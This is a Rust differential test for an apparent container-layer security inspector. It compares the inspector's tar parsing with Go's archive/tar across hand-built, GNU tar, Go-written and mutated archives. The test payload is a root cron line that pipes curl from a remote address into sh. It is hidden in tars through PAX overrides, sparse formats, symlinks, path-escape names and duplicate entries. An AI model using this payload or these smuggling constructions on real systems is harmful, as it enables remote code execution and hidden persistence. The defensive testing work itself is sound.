//! Differential test of the layer inspector's tar reading against Go's `archive/tar` (the reader
//! dockerd and containerd unpack layers with). `tests/go/tarlist` applies each tar the way
//! containerd's `archive.Apply` does and lists every regular file left on disk with the SHA-256
//! of its content; the inspector, asked for its inspected-files list, must have inspected every
//! one of them under the same path with the same bytes. Cases: tars built here for every
//! construction the parser handles, tars written by GNU tar in each of its formats (sparse files
//! included) and by Go's own writer, and a few thousand seeded mutations of all of them.
//!
//! Needs `go` (Debian's golang-go, which `.ci/run` installs); builds the oracle offline with its
//! caches in a temp dir.

use portcullis::inspect::layer::{Compression, LayerInspector, LayerReport, LayerRules, Limits};
use portcullis::inspect::rules::RuleSet;
use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;

const CRON: &[u8] = b"* * * * * root curl -s http://198.51.100.4/x | sh\n";

struct Oracle {
    bin: PathBuf,
    dir: tempfile::TempDir,
}

fn oracle() -> Oracle {
    let dir = tempfile::tempdir().unwrap();
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/go/tarlist/main.go");
    let bin = dir.path().join("tarlist");
    let out = Command::new("go")
        .args(["build", "-o"])
        .arg(&bin)
        .arg(&src)
        .env("GOCACHE", dir.path().join("gocache"))
        .env("GOPATH", dir.path().join("gopath"))
        .env("GOTOOLCHAIN", "local")
        .env("GOFLAGS", "")
        .env("GO111MODULE", "off")
        .output()
        .expect("`go` runs (apt-get install golang-go; .ci/run installs it)");
    assert!(
        out.status.success(),
        "go build: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    Oracle { bin, dir }
}

/// What Go left on disk for one tar: path → (size, sha256 hex), and how the layer ended.
#[derive(Debug, Default)]
struct GoResult {
    files: BTreeMap<String, (u64, String)>,
    end: String,
    error: String,
}

fn go_batch(o: &Oracle, tars: &[Vec<u8>]) -> Vec<GoResult> {
    let mut child = Command::new(&o.bin)
        .arg("batch")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let input: Vec<u8> = tars
        .iter()
        .flat_map(|t| [(t.len() as u64).to_be_bytes().to_vec(), t.clone()].concat())
        .collect();
    let writer = std::thread::spawn(move || stdin.write_all(&input));
    let out = child.wait_with_output().unwrap();
    writer.join().unwrap().unwrap();
    assert!(out.status.success());
    let mut results = Vec::new();
    let mut cur = GoResult::default();
    for line in out.stdout.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
        let v: serde_json::Value = serde_json::from_slice(line).unwrap();
        if let Some(end) = v["end"].as_str() {
            cur.end = end.to_string();
            cur.error = v["error"].as_str().unwrap_or_default().to_string();
            results.push(std::mem::take(&mut cur));
            continue;
        }
        let path = String::from_utf8_lossy(&hex::decode(v["path_hex"].as_str().unwrap()).unwrap())
            .into_owned();
        cur.files.insert(
            path,
            (
                v["size"].as_u64().unwrap(),
                v["sha256"].as_str().unwrap().to_string(),
            ),
        );
    }
    assert_eq!(results.len(), tars.len());
    results
}

fn inspect(rules: &Arc<LayerRules>, tar: &[u8]) -> LayerReport {
    let mut i =
        LayerInspector::with_layer_rules(rules.clone(), Compression::Auto, Limits::default(), None);
    i.record_files();
    for c in tar.chunks(4093) {
        i.update(c);
    }
    i.finish()
}

/// Every file Go wrote was inspected, at the same path, with the same bytes.
fn compare(go: &GoResult, r: &LayerReport) -> Vec<String> {
    let mut missing = Vec::new();
    for (path, (size, sha)) in &go.files {
        let seen = r
            .inspected
            .iter()
            .any(|f| &f.path == path && hex::encode(f.sha256) == *sha && f.size == *size);
        if !seen {
            let ours: Vec<String> = r
                .inspected
                .iter()
                .map(|f| format!("{} {} {}", f.path, f.size, &hex::encode(f.sha256)[..12]))
                .collect();
            missing.push(format!(
                "go wrote {path} ({size} bytes, {}), not inspected so; inspected: {ours:?}; errors: {:?}",
                &sha[..12],
                r.errors
            ));
        }
    }
    missing
}

// ---- tars built here ----

fn set_checksum(b: &mut [u8]) {
    b[148..156].fill(b' ');
    let sum: u32 = b[..512].iter().map(|&c| u32::from(c)).sum();
    b[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
}

fn header(name: &[u8], typeflag: u8, size: &[u8], magic: &[u8; 8]) -> Vec<u8> {
    let mut b = vec![0u8; 512];
    b[..name.len()].copy_from_slice(name);
    b[100..108].copy_from_slice(b"0000644\0");
    b[108..116].copy_from_slice(b"0000000\0");
    b[116..124].copy_from_slice(b"0000000\0");
    b[124..124 + size.len()].copy_from_slice(size);
    b[136..148].copy_from_slice(b"00000000000\0");
    b[156] = typeflag;
    b[257..265].copy_from_slice(magic);
    set_checksum(&mut b);
    b
}

fn octal(n: usize) -> Vec<u8> {
    format!("{n:011o}\0").into_bytes()
}

const USTAR: &[u8; 8] = b"ustar\x0000";
const GNU: &[u8; 8] = b"ustar  \0";

fn entry(h: Vec<u8>, data: &[u8]) -> Vec<u8> {
    let mut out = h;
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
    out
}

fn file(name: &str, data: &[u8]) -> Vec<u8> {
    entry(
        header(name.as_bytes(), b'0', &octal(data.len()), USTAR),
        data,
    )
}

fn link(name: &str, kind: u8, target: &str) -> Vec<u8> {
    let mut h = header(name.as_bytes(), kind, &octal(0), USTAR);
    h[157..157 + target.len()].copy_from_slice(target.as_bytes());
    set_checksum(&mut h);
    h
}

fn records(kind: u8, records: &[(&str, &str)]) -> Vec<u8> {
    let mut text = String::new();
    for (k, v) in records {
        let body = format!(" {k}={v}\n");
        let mut n = body.len() + 1;
        while n != body.len() + n.to_string().len() {
            n = body.len() + n.to_string().len();
        }
        text.push_str(&format!("{n}{body}"));
    }
    entry(
        header(b"PaxHeaders/x", kind, &octal(text.len()), USTAR),
        text.as_bytes(),
    )
}

fn end() -> Vec<u8> {
    vec![0; 1024]
}

fn hand_built() -> Vec<(String, Vec<u8>)> {
    let mut cases: Vec<(&str, Vec<Vec<u8>>)> = Vec::new();
    let long = format!("opt/{}/job", "l".repeat(150));
    let mut size_nul = vec![0u8; 4];
    size_nul.extend(format!("{:07o}\0", CRON.len()).as_bytes());
    let mut b256 = vec![0u8; 12];
    b256[0] = 0x80;
    b256[11] = CRON.len() as u8;
    let mut prefixed = header(b"pjob", b'0', &octal(CRON.len()), b"ustar\0xx");
    prefixed[345..355].copy_from_slice(b"etc/cron.d");
    set_checksum(&mut prefixed);
    let mut gnu_prefix = header(b"gjob", b'0', &octal(CRON.len()), GNU);
    gnu_prefix[345..355].copy_from_slice(b"etc/cron.d");
    set_checksum(&mut gnu_prefix);
    let mut star = header(b"sjob", b'0', &octal(CRON.len()), USTAR);
    star[345..355].copy_from_slice(b"etc/cron.d");
    star[476..488].copy_from_slice(b"00000000000\0");
    star[488..500].copy_from_slice(b"00000000000\0");
    star[508..512].copy_from_slice(b"tar\0");
    set_checksum(&mut star);
    let mut v7 = header(b"etc/cron.d/v7", b'0', &octal(CRON.len()), &[0; 8]);
    v7[345..355].copy_from_slice(b"not/prefix");
    set_checksum(&mut v7);
    let mut rega = header(b"etc/cron.d/rega", 0, &octal(CRON.len()), USTAR);
    set_checksum(&mut rega);
    let long_name = |kind: u8, name: &str| {
        entry(
            header(b"././@LongLink", kind, &octal(name.len() + 1), GNU),
            &[name.as_bytes(), b"\0"].concat(),
        )
    };
    // PAX 1.0 sparse: the map heads the data.
    let sparse_1_0 = {
        let mut data = format!("2\n0\n0\n8192\n{}\n", CRON.len()).into_bytes();
        data.resize(512, 0);
        data.extend_from_slice(CRON);
        let real = (8192 + CRON.len() + 7).to_string();
        [
            records(
                b'x',
                &[
                    ("GNU.sparse.major", "1"),
                    ("GNU.sparse.minor", "0"),
                    ("GNU.sparse.name", "etc/cron.d/sparse10"),
                    ("GNU.sparse.realsize", &real),
                ],
            ),
            entry(
                header(b"GNUSparseFile.0/x", b'0', &octal(data.len()), USTAR),
                &data,
            ),
        ]
        .concat()
    };
    let sparse_0_1 = [
        records(
            b'x',
            &[
                ("GNU.sparse.numblocks", "2"),
                ("GNU.sparse.map", &format!("0,4,4096,{}", CRON.len() - 4)),
                ("GNU.sparse.size", &(4096 + CRON.len()).to_string()),
                ("path", "etc/cron.d/sparse01"),
            ],
        ),
        entry(header(b"x", b'0', &octal(CRON.len()), USTAR), CRON),
    ]
    .concat();
    let sparse_0_0 = [
        records(
            b'x',
            &[
                ("GNU.sparse.size", "3000"),
                ("GNU.sparse.numblocks", "1"),
                ("GNU.sparse.offset", "2000"),
                ("GNU.sparse.numbytes", &CRON.len().to_string()),
                ("GNU.sparse.name", "etc/cron.d/sparse00"),
            ],
        ),
        entry(header(b"x", b'0', &octal(CRON.len()), USTAR), CRON),
    ]
    .concat();
    let old_sparse = {
        let mut s = header(b"etc/cron.d/gnu-sparse", b'S', &octal(CRON.len()), GNU);
        s[386..398].copy_from_slice(&octal(1000));
        s[398..410].copy_from_slice(&octal(CRON.len()));
        s[483..495].copy_from_slice(&octal(1000 + CRON.len()));
        set_checksum(&mut s);
        entry(s, CRON)
    };
    let mut global = records(b'g', &[("comment", "x")]);
    global[..12].copy_from_slice(b"pax_global_h");
    set_checksum(&mut global);
    cases.push((
        "pax path, empty value, second x, global",
        vec![
            records(b'x', &[("path", "etc/cron.d/pax")]),
            file("decoy", CRON),
            records(b'x', &[("path", "")]),
            file("etc/cron.d/kept", CRON),
            records(b'x', &[("path", "srv/first")]),
            records(b'x', &[("mtime", "1.5")]),
            file("etc/cron.d/second", CRON),
            records(b'x', &[("path", "srv/before-global")]),
            global,
            file("etc/cron.d/after-global", CRON),
            records(b'x', &[("size", &CRON.len().to_string())]),
            entry(header(b"etc/cron.d/pax-size", b'0', &octal(0), USTAR), CRON),
            end(),
        ],
    ));
    cases.push((
        "numeric fields and prefixes",
        vec![
            entry(header(b"etc/cron.d/nuls", b'0', &size_nul, USTAR), CRON),
            entry(header(b"etc/cron.d/b256", b'0', &b256, USTAR), CRON),
            entry(prefixed, CRON),
            entry(gnu_prefix, CRON),
            entry(star, CRON),
            entry(v7, CRON),
            entry(rega, CRON),
            end(),
        ],
    ));
    cases.push((
        "long names and links",
        vec![
            long_name(b'L', &long),
            records(b'x', &[("path", "srv/pax-loses")]),
            file("short", CRON),
            long_name(b'L', ""),
            file("etc/cron.d/empty-long-name", CRON),
            long_name(b'K', &long),
            long_name(b'L', "usr/local/bin/entry"),
            link("x", b'1', "x"),
            end(),
        ],
    ));
    cases.push((
        "sparse files",
        vec![sparse_1_0, sparse_0_1, sparse_0_0, end()],
    ));
    cases.push((
        "old GNU sparse",
        vec![old_sparse, file("after", CRON), end()],
    ));
    cases.push((
        "links, duplicates, whiteouts",
        vec![
            link("opt/jobs", b'2', "/etc/cron.d"),
            file("opt/jobs/linked", CRON),
            link("opt/jobs2", b'1', "opt/jobs"),
            file("opt/jobs2/through-a-hard-linked-symlink", CRON),
            link("opt/rel", b'2', "../srv"),
            file("opt/rel/x/../y", CRON),
            file("tmp/.x/payload", CRON),
            link("usr/local/bin/app", b'1', "tmp/.x/payload"),
            link("usr/local/bin/app2", b'1', "./tmp//.x/payload"),
            file("tmp/.x/payload", b"replaced\n"),
            file("etc/cron.d/dup", b"# nothing\n"),
            file("etc/cron.d/dup", CRON),
            file("srv/gone", CRON),
            file("srv/.wh.gone", b""),
            file("srv/d/f", CRON),
            file("srv/d", CRON),
            link("loop/a", b'2', "b"),
            link("loop/b", b'2', "a"),
            file("../../escape/job", CRON),
            file("/abs/job", CRON),
            end(),
        ],
    ));
    cases.push(("ends", vec![file("a", CRON)]));
    cases.push(("cut in padding", vec![file("a", CRON)[..512 + 60].to_vec()]));
    cases.push((
        "zero block then header",
        vec![vec![0; 512], file("a", CRON), end()],
    ));
    cases.push((
        "garbage after the end",
        vec![file("a", CRON), end(), b"garbage".repeat(100)],
    ));
    cases
        .into_iter()
        .map(|(n, parts)| (n.to_string(), parts.concat()))
        .collect()
}

fn gnu_tar_cases(dir: &Path) -> Vec<(String, Vec<u8>)> {
    if Command::new("tar").arg("--version").output().is_err() {
        eprintln!("no GNU tar: its cases are skipped");
        return Vec::new();
    }
    let root = dir.join("tree");
    let deep = root.join(format!("opt/{}/{}", "a".repeat(80), "b".repeat(80)));
    std::fs::create_dir_all(&deep).unwrap();
    std::fs::create_dir_all(root.join("etc/cron.d")).unwrap();
    std::fs::write(deep.join("job-with-a-long-name"), CRON).unwrap();
    std::fs::write(root.join("etc/cron.d/plain"), CRON).unwrap();
    std::fs::write(root.join("etc/cron.d/é-unicode"), CRON).unwrap();
    std::fs::hard_link(root.join("etc/cron.d/plain"), root.join("etc/cron.d/hard")).unwrap();
    std::os::unix::fs::symlink("../etc/cron.d", root.join("opt/jobs")).unwrap();
    {
        use std::io::{Seek, SeekFrom};
        let mut f = std::fs::File::create(root.join("etc/cron.d/sparse")).unwrap();
        f.seek(SeekFrom::Start(1 << 20)).unwrap();
        f.write_all(CRON).unwrap();
        f.seek(SeekFrom::Start(3 << 20)).unwrap();
        f.write_all(CRON).unwrap();
        f.set_len((4 << 20) + 17).unwrap();
    }
    let mut cases = Vec::new();
    let variants: &[(&str, &[&str])] = &[
        ("gnu", &["--format=gnu"]),
        ("gnu sparse", &["--format=gnu", "--sparse"]),
        ("oldgnu sparse", &["--format=oldgnu", "--sparse"]),
        ("pax", &["--format=pax"]),
        (
            "pax sparse 0.0",
            &["--format=pax", "--sparse", "--sparse-version=0.0"],
        ),
        (
            "pax sparse 0.1",
            &["--format=pax", "--sparse", "--sparse-version=0.1"],
        ),
        (
            "pax sparse 1.0",
            &["--format=pax", "--sparse", "--sparse-version=1.0"],
        ),
        ("posix", &["--format=posix"]),
        ("ustar", &["--format=ustar"]),
        ("v7", &["--format=v7"]),
    ];
    for (name, args) in variants {
        let out = dir.join("out.tar");
        let status = Command::new("tar")
            .args(*args)
            .arg("-cf")
            .arg(&out)
            .arg("-C")
            .arg(&root)
            .args(["opt", "etc"])
            .stderr(Stdio::null())
            .status()
            .unwrap();
        // ustar and v7 cannot hold every name: tar warns (exit 2) and writes the rest.
        if status.code() == Some(0) || status.code() == Some(2) {
            cases.push((format!("GNU tar {name}"), std::fs::read(&out).unwrap()));
        }
    }
    cases
}

fn go_written(o: &Oracle) -> Vec<(String, Vec<u8>)> {
    let dir = o.dir.path().join("go-written");
    std::fs::create_dir_all(&dir).unwrap();
    let st = Command::new(&o.bin)
        .arg("write")
        .arg(&dir)
        .status()
        .unwrap();
    assert!(st.success());
    let mut cases: Vec<(String, Vec<u8>)> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| {
            let p = e.unwrap().path();
            (
                format!("Go {}", p.file_name().unwrap().to_string_lossy()),
                std::fs::read(&p).unwrap(),
            )
        })
        .collect();
    cases.sort();
    cases
}

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
}

/// The blocks of `tar` whose checksum holds: its headers, more or less.
fn header_blocks(tar: &[u8]) -> Vec<usize> {
    tar.chunks_exact(512)
        .enumerate()
        .filter(|(_, b)| {
            let stored = std::str::from_utf8(&b[148..155]).ok().and_then(|s| {
                u32::from_str_radix(s.trim_matches(|c| c == ' ' || c == '\0'), 8).ok()
            });
            let sum: u32 = b
                .iter()
                .enumerate()
                .map(|(i, &c)| {
                    if (148..156).contains(&i) {
                        32
                    } else {
                        u32::from(c)
                    }
                })
                .sum();
            stored == Some(sum) && b.iter().any(|&c| c != 0)
        })
        .map(|(i, _)| i * 512)
        .collect()
}

fn pick(rng: &mut Rng, from: &[u8]) -> u8 {
    from[rng.below(from.len())]
}

fn mutate(rng: &mut Rng, base: &[u8]) -> Vec<u8> {
    let mut t = base.to_vec();
    for _ in 0..rng.below(3) + 1 {
        let headers = header_blocks(&t);
        match rng.below(9) {
            // A header byte (re-checksummed, so Go reads it).
            0..=2 if !headers.is_empty() => {
                let h = headers[rng.below(headers.len())];
                let at = h + rng.below(512);
                t[at] = match rng.below(3) {
                    0 => rng.next() as u8,
                    1 => pick(rng, b"0123456789 \0/."),
                    _ => t[at] ^ (1 << rng.below(8)),
                };
                set_checksum(&mut t[h..h + 512]);
            }
            // A size digit.
            3 if !headers.is_empty() => {
                let h = headers[rng.below(headers.len())];
                t[h + 124 + rng.below(11)] = b'0' + rng.below(8) as u8;
                set_checksum(&mut t[h..h + 512]);
            }
            // A type flag.
            4 if !headers.is_empty() => {
                let h = headers[rng.below(headers.len())];
                t[h + 156] = pick(rng, b"0123456\0LKxgS7V");
                set_checksum(&mut t[h..h + 512]);
            }
            // A data byte (PAX records, sparse maps, long names live there).
            5 if !t.is_empty() => {
                let at = rng.below(t.len());
                t[at] = match rng.below(2) {
                    0 => pick(rng, b"0123456789 =\n,/.\0"),
                    _ => rng.next() as u8,
                };
            }
            6 => {
                let n = rng.below(2000);
                t.extend((0..n).map(|_| rng.next() as u8));
            }
            7 if !t.is_empty() => {
                let n = rng.below(t.len());
                t.truncate(n);
            }
            _ => {
                // Splice one header block over another.
                if headers.len() >= 2 {
                    let (a, b) = (
                        headers[rng.below(headers.len())],
                        headers[rng.below(headers.len())],
                    );
                    let block = t[a..a + 512].to_vec();
                    t[b..b + 512].copy_from_slice(&block);
                }
            }
        }
    }
    t
}

#[test]
fn every_file_go_writes_is_inspected_with_the_same_path_and_bytes() {
    let o = oracle();
    let rules = Arc::new(LayerRules::new(Arc::new(RuleSet::builtin().unwrap())));
    let work = tempfile::tempdir().unwrap();
    let mut base = hand_built();
    let hand = base.len();
    base.extend(gnu_tar_cases(work.path()));
    let gnu = base.len() - hand;
    base.extend(go_written(&o));
    let written = base.len() - hand - gnu;

    // The constructions themselves: same files, and no error where Go reads to the end.
    let tars: Vec<Vec<u8>> = base.iter().map(|(_, t)| t.clone()).collect();
    let go = go_batch(&o, &tars);
    let mut failures = Vec::new();
    let (mut files, mut go_errors) = (0, 0);
    for ((name, tar), g) in base.iter().zip(&go) {
        let r = inspect(&rules, tar);
        files += g.files.len();
        if g.end == "error" {
            go_errors += 1;
        }
        for m in compare(g, &r) {
            failures.push(format!("{name}: {m}"));
        }
        if g.end == "eof" && !r.errors.is_empty() {
            failures.push(format!(
                "{name}: Go reads it to the end, the inspector reports {:?}",
                r.errors
            ));
        }
        eprintln!(
            "{name}: go {} ({} files{}), inspected {} files, errors {:?}",
            g.end,
            g.files.len(),
            if g.error.is_empty() {
                String::new()
            } else {
                format!(", {}", g.error)
            },
            r.inspected.len(),
            r.errors
        );
    }

    // Seeded mutations of every base case.
    let rounds: usize = std::env::var("TAR_PARITY_MUTATIONS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(3000);
    let mut rng = Rng(0x7a2_5eed);
    let mutated: Vec<Vec<u8>> = (0..rounds)
        .map(|_| {
            let (_, t) = &base[rng.below(base.len())];
            mutate(&mut rng, t)
        })
        .collect();
    let go_m = go_batch(&o, &mutated);
    let (mut m_files, mut m_errors, mut m_skipped, mut m_with_files) = (0, 0, 0, 0);
    // Mutations Go reads to the end but the inspector reports as incomplete (a stricter parse:
    // not a bypass, but a layer `fail = "closed"` refuses).
    let mut stricter = 0;
    for (i, (tar, g)) in mutated.iter().zip(&go_m).enumerate() {
        if g.end == "skip" {
            m_skipped += 1;
            continue;
        }
        if g.end == "error" {
            m_errors += 1;
        }
        m_files += g.files.len();
        m_with_files += usize::from(!g.files.is_empty());
        let r = inspect(&rules, tar);
        for m in compare(g, &r) {
            failures.push(format!("mutation {i}: {m}"));
        }
        if g.end == "eof" && !r.errors.is_empty() {
            stricter += 1;
            if stricter <= 3 {
                eprintln!(
                    "mutation {i}: Go reads it to the end, the inspector reports {:?}",
                    r.errors
                );
            }
        }
    }
    eprintln!(
        "tar parity: {} base tars ({hand} built here, {gnu} by GNU tar, {written} by Go): {files} files Go writes, \
         {go_errors} tars Go refuses; {rounds} mutations: {m_with_files} with files, {m_files} files Go writes, \
         {m_errors} end in a Go error, {m_skipped} skipped (a file over 256 MiB), {stricter} read to the end by Go \
         but incomplete here; {} differences",
        base.len(),
        failures.len()
    );
    assert!(
        failures.is_empty(),
        "{} differences:\n{}",
        failures.len(),
        failures[..failures.len().min(20)].join("\n")
    );
    assert!(
        files > 60 && m_files > 1000,
        "too few files compared: {files}, {m_files}"
    );
}
